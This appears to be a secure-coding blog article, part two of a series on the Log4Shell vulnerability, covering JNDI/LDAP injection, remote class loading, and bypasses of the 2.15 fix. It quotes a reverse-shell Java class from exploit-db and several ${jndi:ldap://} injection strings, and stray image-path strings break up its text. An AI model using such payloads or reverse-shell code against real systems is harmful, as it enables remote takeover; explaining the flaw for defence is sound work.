The cautionary saga of Log4Shell – Part 2


Learn why JNDI and LDAP are two flavors that go great together, and what makes Log4Shell important from a secure coding perspective.

After introducing the vulnerability in log4j itself in the first part, in this second part of the article we’ll move on to the consequences, taking the log4j vulnerability from a “theoretically exploitable” function to a devastating RCE.

Remember, the root cause of the problem was in the templating subsystem of log4j, namely how it allowed using various placeholders not only in the configuration file, but also in log entries themselves. Andattackers can trivially control your log entries!

Let’s see what they can do to withthis to run arbitrary code on a remote computer running an application that uses log4j.

Interpolating JNDI – what could possibly go wrong?

The plot thickens further when we realize that a placeholder in a Lookup string can make use of the Java Naming and Directory Interface (JNDI). JNDI is a generic interface to interact with naming and directory services to find and fetch objects with metadata from different types of services. Among other things, a JNDI lookup can force the system to query a directory for a so-called directory object (which can be amarshalled or serialized Java object for somedirectories), fetch the data and then instantiate the object locally via unmarshalling (followed by remote class loading) or deserialization. In case of log4j, the results of the JNDI lookup will be converted into a String, and put into the log file. This already sounds dangerous because this impliesthe deserialization of Java objects based on arbitrary data. Developers of log4j added the feature of JNDI interpolation to log entries in log4j 2.0.0 beta 9 on July 17, 2013 – thus even before its first stable release, log4j v2 was vulnerable to JNDI injection!

To take this one step further, one of the directory services supported by JNDI is the Lightweight Directory Access Protocol (LDAP). But why is that a problem? Simple: an LDAP server can return an arbitrary marshalled object (see RFC 2713) which will be unmarshalled as part of the JNDI lookup process, essentially loading a class from a remote source.

Remote code execution via JNDI injection was famously demonstrated by Muñoz and Mirosh in A Journey From JNDI/LDAP Manipulation to Remote Code Execution Dream Land some time ago, at Black Hat 2016 via three different vectors (RMI, CORBA, and LDAP). JNDI LDAP manipulation was a hot topic in those years, riding on the back of object deserialization vulnerabilities. One of these attacks involved a malicious LDAP server returning a class file that the lookup process would then load and execute, causing RCE.

Those evil constructors

Now let’s circle back to log interpolation in log4j, and let’s say an attacker logged the following string:


As the first interpolation step, this made an LDAP lookup query to via JNDI. That server (controlled by the attacker) would then respond with an object like this (from exploit-db – note that host and port in the below code would be set by the attacker beforehand):

public class Exploit {
  public Exploit() throws Exception {
    String host="%s";
    int port=%s;
    String cmd="/bin/sh";
    Process p=new ProcessBuilder(cmd).redirectErrorStream(true).start();Socket s=new Socket(host,port);
    InputStream pi=p.getInputStream(),pe=p.getErrorStream(),si=s.getInputStream();
    OutputStream po=p.getOutputStream(),so=s.getOutputStream();
    while(!s.isClosed()) {
      try {
      catch (Exception e){

The constructor of this class – as an intentional and malicious side-effect of the unmarshalling – would spawn a shell and then makeit accessible via an attacker-specified port, ultimately giving the attacker remote access to the system.There are some mitigations against this kind of attack in newer JDK versions: they only allow serialized Java objects instead of marshalled objects (i.e. class loading of objects from remote codebases). This limitation however still left the whole process exploitable, the attacker just needed to take a few extra steps – as explained by Moritz Bechler in this article. Basically, it was still possible to trigger RCE by sending a malicious serialized object whose class name was accessible in the JVM already (particularly org.apache.naming.factory.BeanFactory if the webapp was running on Tomcat). This technique, also known as Property Oriented Programming (POP, defined in Marshalling Pickles, Chris Frohoff’s classic 2015 talk that brought deserialization attacks to the forefront) can cause RCE as a side-effect of deserialization if the stream to be deserialized is prepared in a tricky way. See the JNDI-Exploit-Kit for examples.

log4j log4shell jndi

The devil is in the details (and edge cases)

The log4j developers reacted quickly. The first fix in 2.15 added an allowlist for LDAP classes, hosts, and JNDI protocols (see the code snippet below) to the JMSAppender to eliminate the abuse shown above. By default, it only allowed local addresses for LDAP requests, only allowed primitive Java classes to be deserialized, and limited JNDI to the java, ldap and ldaps protocols.

Another fix disabled lookup formatting in log entries by default, meaning that unless lookups were explicitly enabled in code by using %m{lookups} for a particular pattern (which was obviously dangerous – if a programmer enabled it, it meant that they accepted the risks), log4j would take any text entering a log entry ‘as is’ without any interpolation. This change did not have any effects on the lookup in config files, though.

if (!allowedHosts.contains(uri.getHost())) {
    LOGGER.warn("Attempt to access ldap server not in allowed list");
    return null;

String className= classNameAttr.get().toString();
if (!allowedClasses.contains(className)) {
    LOGGER.warn("Deserialization of {} is not allowed", className);
    return null;

So far it looks like these solutions should have solved the problem. But when a vulnerability like this pops up in an open-source project, there is always a surge of activity as a lot of hackers are going to be looking for other vulnerabilities. Just consider how many vulnerabilities they have found in OpenSSL in 2014 immediately following the discovery of Heartbleed. And that’s exactly what happened here.

The second vulnerability was CVE-2021-45046 (CVSS 9.0). For starters, as identified by @pwntester (Alvaro Muñoz, the author of the 2016 JNDI/LDAP RCE paper) and demonstrated by @marcioalm, the above described validations didn’t work correctly on certain platforms.

A URL such as ldap:// would get through the allowedHosts validation on macOS, because on that platform getHost() stopped at the # character. Thus, the validator wouldthink that the host address was, but with the “right” (misconfigured) DNS resolver, JNDI would actually access to perform the lookup. The allowedClasses validation could also be bypassed in some cases by choosing a class name that was already in the JDK.

Back to JNDI configuration troublesMoreover, even if the logger configuration did not allow JNDI lookups in log entries directly, the RCE was still possible if the JNDI lookup was part of a substitution in a configuration file that used a user-controlled (which of course means: attacker-controlled) value. For example, if the program was logging $${ctx:loginId} somewhere via a PatternLayout, this would need to be resolved by looking up the value corresponding to the loginId key in the ThreadContext map. Even though the username is usually not considered to be input, it is part of the attack surface. An attacker could obviouslycontrol it by registering to the system with a tricky username, say, ${jndi:ldap://}. Then, during the text substitution step, log4j would first substitute this string, then it’d resolve the LDAP reference – and the RCE would fire again.

Another example, as raised by @alkalinesec, was having a configuration file that logged ${env:HTTP_USER_AGENT} in a CGI context – since HTTP requests are translated into environment variables in CGI, the attacker-controlled User-Agent parameter from the HTTP request could be used to set the HTTP_USER_AGENT environment variable to have a value of ${jndi:ldap://}, and thus still achieve RCE. This was however – admittedly – a much smaller problem, since it required the logging configuration to be vulnerable.

log4j developers fixed this loophole in 2.16 by removing text substitution in log messages completely and disabling JNDI by default (unless log4j2.enableJndi was set inconfiguration, which was obviouslydangerous).

However, this fix was not quite enough. In the final part of the article, we will present some further issues, and longer-term impacts that emerged from the exploitation of the original Log4Shell vulnerability. We will also draw the conclusion of the story from a software security standpoint. Until then, check out our Java courses dealing with the best practices that would have prevented all of the above in log4j code.

UPDATE! You canalready access the thirdpart of the article here.